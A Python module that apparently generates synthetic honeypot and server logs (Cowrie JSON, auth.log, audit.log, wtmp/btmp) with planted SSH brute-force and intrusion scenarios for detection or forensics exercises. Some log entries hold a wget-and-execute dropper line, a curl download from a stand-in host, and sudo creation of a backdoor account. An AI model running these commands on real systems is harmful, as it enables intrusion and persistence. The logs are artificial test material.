"""Host and honeypot records: a Cowrie honeypot (hp1) and a server (app1) whose logins are in its
auth.log, its audit log and its wtmp/btmp at once, with the attacks planted in them.

Every draw here comes from an RNG of this module's own (seeded from the scenario's seed and the
attack or traffic name), never from the generator's: the other families' files stay the same
bytes whether these attacks are planted or not. Records go to ``gen.host_records[path]`` as
(ts, line, tag); wtmp/btmp records are bytes (glibc ``struct utmp``).
"""

from __future__ import annotations

import ipaddress
import json
import random
import struct
from typing import TYPE_CHECKING

from .common import (
    BOTNET_16S, DAY, HOSTING_16S, HOUR, MINUTE, OFFICE_CAROL, SECOND, US, WINDOW_END, WINDOW_START, at,
    fmt_rfc3164,
)

if TYPE_CHECKING:
    from .attacks import Attack
    from .core import Generator

HONEYPOT_PUB = "192.0.2.50"  # hp1: Cowrie in a container, its port 22 forwarded to 2222
HONEYPOT_INNER = "172.17.0.3"
APP1_PUB = "192.0.2.40"
COWRIE = "honeypot/cowrie.json"
AUTH, AUDIT, WTMP, BTMP = "app1/auth.log", "app1/audit.log", "app1/wtmp", "app1/btmp"
PATHS = (COWRIE, AUTH, AUDIT, WTMP, BTMP)
PASSWORDS = ("123456", "password", "admin", "root", "12345", "qwerty", "1234", "test", "111111", "abc123",
             "P@ssw0rd", "toor", "raspberry", "ubnt", "default", "changeme", "letmein", "pass", "master", "oracle")
USERS = ("root", "admin", "ubuntu", "test", "user", "pi", "oracle", "git", "postgres", "support")


def _rng(gen: Generator, name: str) -> random.Random:
    return random.Random(f"{gen.seed}:{gen.sc.name}:{name}")


def _out(gen: Generator, path: str) -> list:
    return gen.host_records.setdefault(path, [])


def _source(gen: Generator, rng: random.Random, tag: str | None, pools=HOSTING_16S) -> str:
    """A public address nobody else in the scenario uses, drawn with this module's RNG."""
    while True:
        ip = f"{rng.choice(pools)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"
        if ipaddress.ip_address(ip).is_global and ip not in gen.used_ips:
            gen.used_ips.add(ip)
            if tag:
                gen.note_ip(tag, ip)
            return ip


def _iso(us: int) -> str:
    s, u = divmod(us, US)
    from datetime import datetime, timezone

    return datetime.fromtimestamp(s, timezone.utc).strftime("%Y-%m-%dT%H:%M:%S") + f".{u:06d}Z"


# --- Cowrie ------------------------------------------------------------------------------------


class _Cowrie:
    """One honeypot connection's events, written as Cowrie's JSON lines."""

    def __init__(self, gen: Generator, rng: random.Random, ip: str, t: int, tag: str | None) -> None:
        self.gen, self.rng, self.ip, self.t, self.tag = gen, rng, ip, t, tag
        self.session = "%012x" % rng.getrandbits(48)
        self.start = t
        self.emit("cowrie.session.connect", src_port=rng.randint(32768, 60999), dst_ip=HONEYPOT_INNER,
                  dst_port=2222, protocol="ssh",
                  message=f"New connection: {ip} ({HONEYPOT_INNER}:2222) [session: {self.session}]")

    def emit(self, eventid: str, **kw) -> None:
        self.t += int(self.rng.uniform(0.05, 0.4) * US)
        rec = {"eventid": eventid, "timestamp": _iso(self.t), "src_ip": self.ip, "session": self.session,
               "sensor": "hp1"} | kw
        _out(self.gen, COWRIE).append((self.t, json.dumps(rec), self.tag))

    def login(self, user: str, password: str, ok: bool) -> None:
        word = "succeeded" if ok else "failed"
        self.emit(f"cowrie.login.{'success' if ok else 'failed'}", username=user, password=password,
                  message=f"login attempt [{user}/{password}] {word}")

    def close(self) -> None:
        self.emit("cowrie.session.closed", duration=round((self.t - self.start) / US, 3),
                  message=f"Connection lost after {(self.t - self.start) // US} seconds")


def honeypot_brute_force(gen: Generator, start: int, a: Attack) -> tuple[list, str]:
    """One source runs a password list against root on the honeypot: many short connections."""
    rng = _rng(gen, a.id)
    ip = _source(gen, rng, a.id)
    gen.note_dst(a.id, HONEYPOT_PUB)
    t, tries = start, 0
    while tries < a.params["attempts"]:
        c = _Cowrie(gen, rng, ip, t, a.id)
        c.emit("cowrie.client.version", version="SSH-2.0-Go", message="Remote SSH version: SSH-2.0-Go")
        for _ in range(rng.randint(2, 3)):
            c.login("root", rng.choice(PASSWORDS) + rng.choice(("", "1", "!", "2026")), False)
            tries += 1
        c.close()
        t = c.t + int(rng.uniform(4, 20) * US)
    return ["root"], (f"hp1 (Cowrie), {tries} failed root passwords from one source in "
                      f"{(t - start) // MINUTE} minutes, no success")


def honeypot_intrusion(gen: Generator, start: int, a: Attack) -> tuple[list, str]:
    """A bot guesses root's password, logs in and runs a dropper: commands and a download."""
    rng = _rng(gen, a.id)
    ip = _source(gen, rng, a.id, BOTNET_16S)
    gen.note_dst(a.id, HONEYPOT_PUB)
    c = _Cowrie(gen, rng, ip, start, a.id)
    c.emit("cowrie.client.version", version="SSH-2.0-libssh2_1.9.0", message="Remote SSH version: SSH-2.0-libssh2_1.9.0")
    c.emit("cowrie.client.kex", hassh="51cba57125523ce4b9db67714a90bf6e", message="SSH client hassh fingerprint")
    for pw in ("admin", "12345", "password"):
        c.login("root", pw, False)
    c.login("root", "1qaz2wsx", True)
    url = a.params["url"]
    sha = "%064x" % rng.getrandbits(256)
    for cmd in ("uname -a", "cat /proc/cpuinfo | grep name | wc -l", f"cd /tmp; wget {url}; chmod +x x86; ./x86"):
        c.emit("cowrie.command.input", input=cmd, message=f"CMD: {cmd}")
    c.emit("cowrie.session.file_download", url=url, shasum=sha, outfile=f"var/lib/cowrie/downloads/{sha}",
           message=f"Downloaded URL ({url}) with SHA-256 {sha}")
    c.close()
    return ["root"], f"hp1 (Cowrie): 3 failures then root/1qaz2wsx, three commands and a download of {url}"


# --- app1: auth.log, audit.log, wtmp, btmp of the same logins -----------------------------------


class _App1:
    """app1's records of SSH logins, each written to every log that sees it."""

    def __init__(self, gen: Generator) -> None:
        self.gen = gen
        self.serial = 1000
        self.ses = 1

    def _audit(self, t: int, kind: str, body: str, tag: str | None) -> None:
        self.serial += 1
        line = f"type={kind} msg=audit({t // US}.{(t % US) // 1000:03d}:{self.serial}): {body}"
        _out(self.gen, AUDIT).append((t, line, tag))

    def _auth(self, t: int, pid: int, msg: str, tag: str | None) -> None:
        _out(self.gen, AUTH).append((t, f"{fmt_rfc3164(t)} app1 sshd[{pid}]: {msg}", tag))

    def _utmp(self, path: str, t: int, ut_type: int, pid: int, line: str, user: str, ip: str, tag: str | None) -> None:
        addr = ipaddress.ip_address(ip).packed.ljust(16, b"\0") if ip else b"\0" * 16
        rec = struct.pack("<hhi32s4s32s256shhiii16s20s", ut_type, 0, pid, line.encode(), line[-4:].encode(),
                          user.encode(), ip.encode(), 0, 0, 0, t // US, t % US, addr, b"")
        _out(self.gen, path).append((t, rec, tag))

    def _pam(self, t: int, pid: int, kind: str, op: str, user: str, ip: str, res: str, tag, ses: str = "4294967295"):
        self._audit(t, kind, f"pid={pid} uid=0 auid=4294967295 ses={ses} subj=unconfined msg='op={op} "
                    f"acct=\"{user}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res={res}'", tag)

    def failed(self, t: int, pid: int, ip: str, user: str, tag: str | None) -> None:
        port = 32768 + pid % 28000
        self._auth(t, pid, f"Failed password for {user} from {ip} port {port} ssh2", tag)
        self._pam(t + 40_000, pid, "USER_AUTH", "PAM:authentication", user, ip, "failed", tag)
        self._utmp(BTMP, t, 6, pid, "ssh:notty", user, ip, tag)

    def login(self, t: int, pid: int, ip: str, user: str, method: str, length: int, tag: str | None,
              commands: tuple[tuple[str, str], ...] = ()) -> None:
        port = 32768 + pid % 28000
        self._auth(t, pid, f"Accepted {method} for {user} from {ip} port {port} ssh2", tag)
        if method == "password":
            self._pam(t + 30_000, pid, "USER_AUTH", "PAM:authentication", user, ip, "success", tag)
        self._pam(t + 50_000, pid, "CRED_ACQ", "PAM:setcred", user, ip, "success", tag)
        self.ses += 1
        ses = str(self.ses)
        self._audit(t + 90_000, "USER_LOGIN", f"pid={pid} uid=0 auid=1001 ses={ses} msg='op=login id=1001 "
                    f"exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=/dev/pts/0 res=success'", tag)
        self._pam(t + 95_000, pid, "USER_START", "PAM:session_open", user, ip, "success", tag, ses)
        self._auth(t + 100_000, pid, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)", tag)
        self._utmp(WTMP, t + 120_000, 7, pid + 2, "pts/0", user, ip, tag)
        ct = t + 20 * SECOND
        for kind, text in commands:
            ct += 15 * SECOND
            if kind == "sudo":
                self._audit(ct, "USER_CMD", f"pid={pid + 9} uid=1001 auid=1001 ses={ses} msg='cwd=\"/home/{user}\" "
                            f"cmd={text.encode().hex().upper()} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'", tag)
            elif kind == "add_user":
                self._audit(ct, "ADD_USER", f"pid={pid + 10} uid=0 auid=1001 ses={ses} msg='op=add-user acct=\"{text}\" "
                            f"exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'", tag)
                self._audit(ct + SECOND, "USER_CHAUTHTOK", f"pid={pid + 11} uid=0 auid=1001 ses={ses} "
                            f"msg='op=PAM:chauthtok acct=\"{text}\" exe=\"/usr/bin/passwd\" hostname=? addr=? "
                            f"terminal=pts/0 res=success'", tag)
            else:
                args = " ".join(f'a{i}="{w}"' for i, w in enumerate(text.split()))
                self._audit(ct, "SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 items=2 ppid={pid + 2} "
                            f"pid={pid + 12} auid=1001 uid=1001 tty=pts0 ses={ses} comm=\"{text.split()[0]}\" "
                            f"exe=\"/usr/bin/{text.split()[0]}\" key=\"exec\"", tag)
                self.serial -= 1  # the EXECVE record is part of the same event
                self._audit(ct, "EXECVE", f"argc={len(text.split())} {args}", tag)
        end = t + length
        self._pam(end, pid, "USER_END", "PAM:session_close", user, ip, "success", tag, ses)
        self._auth(end, pid, f"pam_unix(sshd:session): session closed for user {user}", tag)
        self._utmp(WTMP, end + 20_000, 8, pid + 2, "pts/0", "", "", tag)


def app1_compromise(gen: Generator, start: int, a: Attack) -> tuple[list, str]:
    """Guessing admin's password on app1, a login, and a backdoor account made with sudo."""
    rng = _rng(gen, a.id)
    app = gen.__dict__.setdefault("_app1", _App1(gen))
    ip = _source(gen, rng, a.id)
    gen.note_dst(a.id, APP1_PUB)
    t, pid = start, 20000 + rng.randint(0, 9000)
    for _ in range(a.params["failures"]):
        app.failed(t, pid, ip, "admin", a.id)
        t += int(rng.uniform(2, 5) * US)
        pid += rng.randint(1, 3)
    commands = (("exec", "id"), ("exec", "curl -fsSO http://198.51.100.99/k.sh"),
                ("sudo", "useradd -m -s /bin/bash sysupdate"), ("add_user", "sysupdate"))
    app.login(t + 20 * SECOND, pid, ip, "admin", "password", 25 * MINUTE, a.id, commands)
    return ["admin", "sysupdate"], (f"app1: {a.params['failures']} failed passwords for admin, then a password login "
                                    "(auth.log, audit.log, btmp, wtmp), a download and a backdoor account via sudo")


def host_background(gen: Generator) -> None:
    """Benign and background traffic of hp1 and app1: scattered bots on the honeypot, carol's key
    logins on app1 (B6), a boot record, a few scattered password guesses."""
    rng = _rng(gen, "background")
    for _ in range(int(30 * gen.sc.noise)):
        ip = _source(gen, rng, None, BOTNET_16S)
        c = _Cowrie(gen, rng, ip, WINDOW_START + int(rng.uniform(0, 6.9 * DAY / US) * US), None)
        for _ in range(rng.randint(1, 2)):
            c.login(rng.choice(USERS), rng.choice(PASSWORDS), False)
        c.close()
    app = gen.__dict__.setdefault("_app1", _App1(gen))
    app._utmp(WTMP, WINDOW_START - HOUR, 2, 0, "~", "reboot", "", None)
    for day in range(13, 20):
        t = at(day, 9, rng.randint(0, 40), rng.uniform(0, 59))
        app.login(t, 4000 + rng.randint(0, 30000), OFFICE_CAROL, "carol", "publickey",
                  int(rng.uniform(20, 90) * MINUTE), "B6")
    gen.note_ip("B6", OFFICE_CAROL)
    for _ in range(int(6 * gen.sc.noise)):
        ip = _source(gen, rng, None, BOTNET_16S)
        app.failed(WINDOW_START + int(rng.uniform(0, 6.9 * DAY / US) * US), 30000 + rng.randint(0, 30000), ip,
                   rng.choice(USERS), None)
    assert all(t < WINDOW_END for p in PATHS for t, _, _ in gen.host_records.get(p, []))


def lines(gen: Generator, path: str) -> list:
    """The records of one output file in time order."""
    return sorted(gen.host_records.get(path, []), key=lambda r: r[0])
